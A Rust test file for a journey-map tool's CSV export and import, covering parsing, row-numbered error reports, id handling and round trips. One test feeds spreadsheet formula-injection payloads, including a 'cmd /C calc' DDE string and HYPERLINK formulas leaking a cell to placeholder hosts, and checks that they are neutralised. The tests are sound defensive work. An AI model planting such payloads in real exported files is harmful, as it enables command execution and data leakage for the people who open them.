use super::*;
use crate::model::generate::large_map;
use crate::model::{Lane, LaneKind, Persona, Stage};

/// Two stages (one name used twice elsewhere is avoided), a persona lane and a pain-point lane.
fn small_map() -> Map {
    let mut map = Map::new("Boutique");
    for (id, name) in [("s-1", "Recherche"), ("s-2", "Achat")] {
        map.stages.push(Stage {
            id: Id::from(id),
            name: name.into(),
            description: String::new(),
            colour: None,
            metrics: crate::model::Metrics::default(),
        });
    }
    map.personas.push(Persona { id: Id::from("p-lea"), name: "Léa".into(), ..Persona::default() });
    map.lanes.push(Lane {
        id: Id::from("l-lea"),
        title: String::new(),
        kind: LaneKind::Persona(Id::from("p-lea")),
        hidden: false,
    });
    map.lanes.push(Lane {
        id: Id::from("l-douleurs"),
        title: "Points de douleur".into(),
        kind: LaneKind::PainPoints,
        hidden: false,
    });
    let mut card = Card::new(Id::from("c-1"), Id::from("l-lea"), Id::from("s-1"), "Cherche sur Google");
    card.channel = Some(Channel::Web);
    card.emotion = Some(1);
    card.tags = vec!["atelier".into(), "seo".into()];
    map.cards.push(card);
    map
}

#[test]
fn writes_a_header_names_and_quotes() {
    let mut map = small_map();
    map.cards[0].details = "Ligne 1\nLigne \"2\", fin".into();
    let text = write(&map);
    assert!(text.starts_with("\u{feff}id,stage,lane,kind,channel,title,details,emotion,tags\r\n"));
    assert!(
        text.ends_with(
            "c-1,Recherche,Léa,touchpoint,web,Cherche sur Google,\"Ligne 1\nLigne \"\"2\"\", fin\",1,\"atelier; seo\"\r\n"
        ),
        "{text}"
    );
}

#[test]
fn names_that_are_not_unique_are_written_as_ids() {
    let mut map = small_map();
    map.stages[1].name = "Recherche".into();
    map.cards[0].stage = Id::from("s-2");
    let text = write(&map);
    assert!(text.contains("c-1,s-2,Léa,"), "{text}");
    let back = import_into(&map, &text).unwrap();
    assert_eq!(back.map, map);
}

#[test]
fn records_follow_rfc_4180() {
    let text = "a,\"b,c\",\"d\"\"e\"\r\n\"multi\nline\",,x\nlast,row,\"\"";
    let rows = records(text).unwrap();
    let fields: Vec<Vec<&str>> = rows.iter().map(|r| r.fields.iter().map(String::as_str).collect()).collect();
    assert_eq!(fields, [vec!["a", "b,c", "d\"e"], vec!["multi\nline", "", "x"], vec!["last", "row", ""]]);
    assert_eq!(rows.iter().map(|r| r.row).collect::<Vec<_>>(), [1, 2, 3]);
    let semicolons = records("id;title\nc-1;\"a;b\"\n").unwrap();
    assert_eq!(semicolons[1].fields, ["c-1", "a;b"]);
    let error = records("id,title\nc-1,\"open\n").unwrap_err();
    assert_eq!(error.problems[0].row, 2);
    let error = records("id,title\nc-1,\"a\"b\n").unwrap_err();
    assert_eq!(error.problems[0].row, 2);
    assert!(error.problems[0].message.contains("after a closing quote"));
}

#[test]
fn rows_are_numbered_as_a_spreadsheet_shows_them() {
    // Blank lines are rows (the csv crate skips them), a quoted line break is not, and LF, CRLF
    // and CR line ends count the same.
    let rows = |text: &str| records(text).unwrap().iter().map(|r| r.row).collect::<Vec<_>>();
    assert_eq!(rows("\r\nid,title\r\n\r\nc-1,\"a\r\nb\"\r\n\r\n\r\nc-2,x"), [2, 4, 7]);
    assert_eq!(rows("id,title\n\nc-1,\"a\n\nb\"\nc-2,x\n\n"), [1, 3, 4]);
    assert_eq!(rows("id,title\r\rc-1,x\rc-2,\"\"\r"), [1, 3, 4]);
    assert_eq!(rows("\u{feff}id\tstage\ttitle\nc-1\tAchat\t\"a\tb\"\n")[1], 2);
    // A bad row after blank lines and a multi-line field is named by its row.
    let map = small_map();
    let text = "id,title,emotion\r\n\r\nc-1,\"Ligne 1\r\nLigne 2\",1\r\n\r\n,x,9\r\n";
    let error = import_into(&map, text).unwrap_err();
    assert_eq!(error.problems.iter().map(|p| p.row).collect::<Vec<_>>(), [5, 5, 5], "{error}");
    let error = import_into(&map, "id,title\n\n\nc-1,\"ouvert\nc-2,x\n").unwrap_err();
    assert_eq!(error.problems[0].row, 4);
    assert!(error.problems[0].message.contains("not closed"), "{error}");
}

#[test]
fn updates_by_id_and_adds_new_cards() {
    let map = small_map();
    let text = "\u{feff}id,stage,lane,kind,channel,title,details,emotion,tags\r\n\
                c-1,Recherche,Léa,touchpoint,web,Cherche sur Qwant,,2,atelier\r\n\
                ,achat,points de douleur,pain point,,Frais de port,,-2,\"prix, livraison\"\r\n\
                c-new,s-2,l-lea,Opportunity,Mobile App,Appli,,,\r\n";
    let imported = import_into(&map, text).unwrap();
    assert_eq!((imported.updated, imported.added), (1, 2));
    let cards = &imported.map.cards;
    assert_eq!(cards[0].title, "Cherche sur Qwant");
    assert_eq!((cards[0].emotion, cards[0].tags.clone()), (Some(2), vec!["atelier".to_owned()]));
    assert_eq!((cards[1].lane.as_str(), cards[1].stage.as_str()), ("l-douleurs", "s-2"));
    assert_eq!(cards[1].kind, CardKind::PainPoint);
    assert_eq!(cards[1].tags, ["prix", "livraison"]);
    assert!(cards[1].id.as_str().starts_with("c-") && cards[1].id.is_well_formed());
    assert_eq!(
        (cards[2].id.as_str(), cards[2].kind, cards[2].channel),
        ("c-new", CardKind::Opportunity, Some(Channel::MobileApp))
    );
    assert!(crate::check::check(&imported.map, None).is_empty());
    // The same file gives the same ids.
    assert_eq!(import_into(&map, text).unwrap(), imported);
}

#[test]
fn absent_columns_keep_fields_and_empty_ones_clear_them() {
    let map = small_map();
    let imported = import_into(&map, "id,emotion\nc-1,-1\n").unwrap();
    let card = &imported.map.cards[0];
    assert_eq!(
        (card.emotion, card.title.as_str(), card.channel),
        (Some(-1), "Cherche sur Google", Some(Channel::Web))
    );
    let imported = import_into(&map, "id,channel,tags\nc-1,,\n").unwrap();
    assert_eq!((imported.map.cards[0].channel, imported.map.cards[0].tags.len()), (None, 0));
}

#[test]
fn every_bad_row_is_reported_and_nothing_is_imported() {
    let map = small_map();
    let text = "id,stage,lane,kind,channel,title,details,emotion,tags\n\
                c-1,Livraison,Léa,,,ok,,,\n\
                ,Achat,Léa,,,fine,,,\n\
                ,Achat,Marc,,,who,,,\n\
                ,Achat,Léa,gadget,fax,bad kind,,9,\n\
                c-1,Achat,Léa,,,twice,,,\n\
                s-1,Achat,Léa,,,stage id,,,\n\
                ,,,,,no stage,,,\n\
                short,row\n\
                ,Achat,Léa,,,not a number,,beaucoup,\n";
    let error = import_into(&map, text).unwrap_err();
    let rows: Vec<usize> = error.problems.iter().map(|p| p.row).collect();
    assert_eq!(rows, [2, 4, 5, 5, 5, 6, 7, 8, 8, 9, 10], "{:#?}", error.problems);
    let text_of = |row| {
        error
            .problems
            .iter()
            .filter(|p| p.row == row)
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join(" | ")
    };
    assert!(
        text_of(2).contains("stage \"Livraison\" is not in the map (known: \"Recherche\", \"Achat\")"),
        "{}",
        text_of(2)
    );
    assert!(text_of(4).contains("lane \"Marc\" is not in the map"));
    assert!(text_of(5).contains("unknown kind \"gadget\"") && text_of(5).contains("unknown channel \"fax\""));
    assert!(text_of(5).contains("emotion 9 is outside the map's scale -2…2"));
    assert!(text_of(6).contains("already used by row 2"));
    assert!(text_of(7).contains("belongs to a stage"));
    assert!(text_of(8).contains("needs a stage") && text_of(8).contains("needs a lane"));
    assert!(text_of(9).contains("the row has 2 fields, the header has 9"));
    assert!(text_of(10).contains("\"beaucoup\" is not a whole number"));
    assert!(error.to_string().starts_with("11 bad row(s), nothing imported: 2: "), "{error}");
}

#[test]
fn header_problems() {
    let map = small_map();
    let error = import_into(&map, "title,details\nx,y\n").unwrap_err();
    assert_eq!(error.problems[0].row, 1);
    assert!(error.problems[0].message.contains("needs an `id` column"));
    let error = import_into(&map, "id,id\n").unwrap_err();
    assert!(error.problems[0].message.contains("appears twice"));
    assert!(import_into(&map, "").is_err());
    let imported = import_into(&map, "id,colour,title\nc-1,red,New\n").unwrap();
    assert_eq!(imported.warnings.len(), 1);
    assert_eq!(imported.map.cards[0].title, "New");
}

#[test]
fn ambiguous_names_ask_for_an_id() {
    let mut map = small_map();
    map.stages[1].name = "Recherche".into();
    let error = import_into(&map, "stage,lane,title\nRecherche,Léa,x\n").unwrap_err();
    assert!(error.problems[0].message.contains("ambiguous: write one of the ids `s-1`, `s-2`"), "{error}");
}

#[test]
fn map_to_csv_to_map() {
    let map = large_map(12, 8, 1_000, 5);
    let text = write(&map);
    // Into the same map: nothing changes.
    let same = import_into(&map, &text).unwrap();
    assert_eq!((same.updated, same.added), (0, 0));
    assert_eq!(same.map, map);
    // Into the map without its cards: every card comes back, with its id and fields.
    let mut empty = map.clone();
    empty.cards.clear();
    let back = import_into(&empty, &text).unwrap();
    assert_eq!(back.added, 1_000);
    for (card, twin) in map.cards.iter().zip(&back.map.cards) {
        let mut twin = twin.clone();
        twin.order = card.order;
        assert_eq!(&twin, card);
    }
}

#[test]
fn formulas_are_written_as_text_and_read_back_as_they_were() {
    // (text in the map, cell in the file)
    let table = [
        (
            "=HYPERLINK(\"http://x.example/?\"&A1;\"Cliquez\")",
            "'=HYPERLINK(\"http://x.example/?\"&A1;\"Cliquez\")",
        ),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-20 % sur la livraison", "'-20 % sur la livraison"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\tAppel", "'\tAppel"),
        ("\rRetour", "'\rRetour"),
        ("'=1+1", "''=1+1"),
        ("'cité'", "''cité'"),
        ("''", "'''"),
        ("« Pourquoi ? » = la question", "« Pourquoi ? » = la question"),
        ("Frais de port", "Frais de port"),
        ("", ""),
    ];
    for (text, cell) in table {
        assert_eq!(neutralise(text), cell, "{text:?}");
        assert_eq!(unneutralise(cell), text, "{cell:?}");
    }
}

#[test]
fn a_formula_title_is_neutralised_in_the_file_and_the_map_round_trips() {
    let mut map = small_map();
    map.stages[0].name = "=Recherche".into();
    map.personas[0].name = "@Léa".into();
    map.cards[0].title = "=HYPERLINK(\"http://evil.example\",\"Cliquez\")".into();
    map.cards[0].details = "-".into();
    map.cards[0].emotion = Some(-2);
    map.cards[0].tags = vec!["+promo".into(), "'cité'".into()];
    let text = write(&map);
    assert!(
        text.contains(
            "c-1,'=Recherche,'@Léa,touchpoint,web,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Cliquez\"\")\",'-,-2,\"'+promo; 'cité'\"\r\n"
        ),
        "{text}"
    );
    // No cell of the file starts like a formula, but the negative emotion stays a number.
    for record in records(&text).unwrap().iter().skip(1) {
        for (column, cell) in COLUMNS.iter().zip(&record.fields) {
            let starts = cell.chars().next().is_some_and(|c| FORMULA_STARTS.contains(&c));
            assert_eq!(starts, *column == "emotion", "{column}: {cell:?}");
        }
    }
    let same = import_into(&map, &text).unwrap();
    assert_eq!((same.updated, same.added), (0, 0));
    assert_eq!(same.map, map);
    let mut empty = map.clone();
    empty.cards.clear();
    let back = import_into(&empty, &text).unwrap();
    assert_eq!(back.map, map);
}

#[test]
fn numbers_and_hand_written_quotes_import() {
    let map = small_map();
    let imported = import_into(&map, "id,emotion,title,tags\nc-1,-2,'Bonjour,'=A1; b\n").unwrap();
    let card = &imported.map.cards[0];
    assert_eq!((card.emotion, card.title.as_str()), (Some(-2), "Bonjour"));
    assert_eq!(card.tags, ["=A1", "b"]);
    let imported = import_into(&map, "id;emotion\nc-1;\u{2212}1\n").unwrap();
    assert_eq!(imported.map.cards[0].emotion, Some(-1));
}

mod round_trip {
    use super::*;
    use proptest::prelude::*;

    /// Text as people type it in workshops: French words and punctuation, formula starts, quotes,
    /// separators and line breaks.
    fn text() -> impl Strategy<Value = String> {
        let words = prop::sample::select(vec![
            "=",
            "+",
            "-",
            "@",
            "\t",
            "\r",
            "'",
            "''",
            "\"",
            ",",
            ";",
            "\n",
            " ",
            "\u{202f}",
            "Frais",
            "de port",
            "« Pourquoi ? »",
            "été",
            "ça",
            "Œuvre",
            "=HYPERLINK(\"x\")",
            "-2",
            "100 %",
            "a",
        ]);
        prop::collection::vec(words, 0..6).prop_map(|parts| parts.concat())
    }

    /// A tag: no separator, no surrounding space, not empty (tags are split and trimmed).
    fn tag() -> impl Strategy<Value = String> {
        text()
            .prop_map(|t| t.replace([',', ';'], "").trim().to_owned())
            .prop_filter("a tag is not empty", |t| !t.is_empty())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn cards_come_back_as_they_were(
            title in text(),
            details in text().prop_filter("CRLF in details is read as LF", |t| !t.contains("\r\n")),
            tags in prop::collection::vec(tag(), 0..3),
            emotion in prop::option::of(-2_i32..=2),
            stage_name in prop::sample::select(vec!["=Achat", "+Recherche", "-Livraison", "'Retour", "Été"]),
            persona_name in prop::sample::select(vec!["@Léa", "-Marc", "'Zoé", "Hélène", "\tNoé"]),
        ) {
            let mut map = small_map();
            map.stages[1].name = stage_name.into();
            map.personas[0].name = persona_name.into();
            let mut card = Card::new(Id::from("c-2"), Id::from("l-lea"), Id::from("s-2"), &title);
            card.details = details;
            card.tags = tags;
            card.emotion = emotion;
            map.cards.push(card);
            let text = write(&map);
            let same = import_into(&map, &text).unwrap();
            prop_assert_eq!(&same.map, &map);
            prop_assert_eq!((same.updated, same.added), (0, 0));
            let mut empty = map.clone();
            empty.cards.clear();
            let back = import_into(&empty, &text).unwrap();
            prop_assert_eq!(&back.map, &map);
        }
    }
}
